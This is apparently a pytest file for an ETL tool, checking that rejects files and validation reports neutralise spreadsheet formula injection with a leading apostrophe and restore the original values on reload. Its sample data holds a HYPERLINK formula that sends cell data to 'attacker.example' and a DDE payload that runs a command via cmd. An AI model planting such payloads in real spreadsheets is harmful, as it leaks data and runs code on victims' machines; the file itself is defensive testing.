"""Spreadsheet formula injection: files meant for people never hold a live formula.

Rejects files (CSV and XLSX) and the ``validate --out`` report prefix every
cell starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or an
apostrophe with one apostrophe. The original is that cell minus exactly one
leading apostrophe; the loader removes it when it reads a rejects file, so a
fixed rejects file re-loads as is, through the same mapping, with the
original values.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from ot_etl.cli import main

MAPPING = """\
record_type: partitem
match: {fields: [Name]}
schema:
  columns:
    Name: {dtype: str}
    UPC: {dtype: str, nullable: true}
    Qty: {dtype: float64}
fields:
  Name: Name
  UPC: UPC
  ReorderPoint: Qty
  ItemGroupRef.Name: {value: General}
  IsActive: {value: true}
"""

RISKY = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'already quoted",
]
UPCS = ["=1+2", "", "-0", "", "@x"]


def _env(sandbox: Any) -> dict[str, str]:
    return sandbox.environment()


def _run(sandbox: Any, *args: Path | str) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args], env=_env(sandbox))


def _names(client: Any) -> list[str]:
    return sorted(r["Name"] for r in client.list_page("partitem", size=100))


def _is_guarded(cell: str, original: str) -> bool:
    risky = original[:1] in ("=", "+", "-", "@", "\t", "\r", "'")
    return cell == ("'" + original if risky else original)


def test_csv_rejects_are_guarded_and_reload_to_the_originals(
    tmp_path: Path, sandbox: Any, client: Any
) -> None:
    mapping = tmp_path / "items.yaml"
    mapping.write_text(MAPPING)
    source = tmp_path / "items.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["Name", "UPC", "Qty"])
    writer.writerows([n, u, "two"] for n, u in zip(RISKY, UPCS, strict=True))
    source.write_text(buffer.getvalue(), encoding="utf-8")

    first = _run(sandbox, "load", mapping, source)
    assert first.exit_code == 3, first.output
    assert _names(client) == []
    rejects = tmp_path / "items.rejects.csv"
    rows = list(csv.DictReader(io.StringIO(rejects.read_text(encoding="utf-8-sig"))))
    assert len(rows) == len(RISKY)
    for row, name, upc in zip(rows, RISKY, UPCS, strict=True):
        assert _is_guarded(row["Name"], name), row["Name"]
        assert _is_guarded(row["UPC"], upc), row["UPC"]
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@"), value

    # The user fixes the quantities in the rejects file and loads it as is.
    for row in rows:
        row["Qty"] = "2"
    out = io.StringIO()
    fixed = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    fixed.writeheader()
    fixed.writerows(rows)
    rejects.write_text(out.getvalue(), encoding="utf-8-sig")
    second = _run(sandbox, "load", mapping, rejects)
    assert second.exit_code == 0, second.output
    assert _names(client) == sorted(RISKY)
    by_name = {r["Name"]: r for r in client.list_page("partitem", size=100)}
    for name, upc in zip(RISKY, UPCS, strict=True):
        assert (by_name[name]["UPC"] or "") == upc


def test_xlsx_rejects_hold_text_not_formulas_and_reload(
    tmp_path: Path, sandbox: Any, client: Any
) -> None:
    mapping = tmp_path / "items.yaml"
    mapping.write_text(MAPPING)
    source = tmp_path / "items.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Name", "UPC", "Qty"])
    for i, (name, upc) in enumerate(zip(RISKY, UPCS, strict=True), start=2):
        for col, value in enumerate((name, upc, "two"), start=1):
            cell = sheet.cell(row=i, column=col, value=value or None)
            cell.data_type = "s"  # typed as text, the way a person's cell is
    book.save(source)

    first = _run(sandbox, "load", mapping, source)
    assert first.exit_code == 3, first.output
    rejects = tmp_path / "items.rejects.xlsx"
    book = load_workbook(rejects)
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    names = [sheet.cell(row=r, column=1).value for r in range(2, len(RISKY) + 2)]
    assert all(_is_guarded(str(n), o) for n, o in zip(names, RISKY, strict=True))

    qty = [c.value for c in sheet[1]].index("Qty") + 1
    for r in range(2, len(RISKY) + 2):
        sheet.cell(row=r, column=qty, value="2")
    book.save(rejects)
    second = _run(sandbox, "load", mapping, rejects)
    assert second.exit_code == 0, second.output
    assert _names(client) == sorted(RISKY)


def test_the_validate_report_is_guarded(tmp_path: Path) -> None:
    mapping = tmp_path / "items.yaml"
    mapping.write_text(MAPPING)
    source = tmp_path / "items.csv"
    source.write_text('Name,UPC,Qty\n"=2+5",@x,-1 box\n')
    report = tmp_path / "report.csv"
    result = CliRunner().invoke(
        main, ["validate", str(mapping), str(source), "--out", str(report)]
    )
    assert result.exit_code == 3, result.output
    rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8-sig"))))
    assert [(r["column"], r["value"]) for r in rows] == [("Qty", "'-1 box")]


@pytest.mark.parametrize("original", [*RISKY, "plain", "", "a=b"])
def test_guard_and_restore_are_inverse(original: str) -> None:
    import pandas as pd

    from ot_etl.load.rejects import neutralise, restore, strip_extras

    assert restore(neutralise(original)) == original
    frame = pd.DataFrame(
        {"Name": [neutralise(original)], "_stage": ["server"], "_reasons": ["x"]},
        dtype="str",
    )
    back, was_rejects = strip_extras(frame)
    assert was_rejects and list(back.columns) == ["Name"]
    assert back.at[0, "Name"] == original
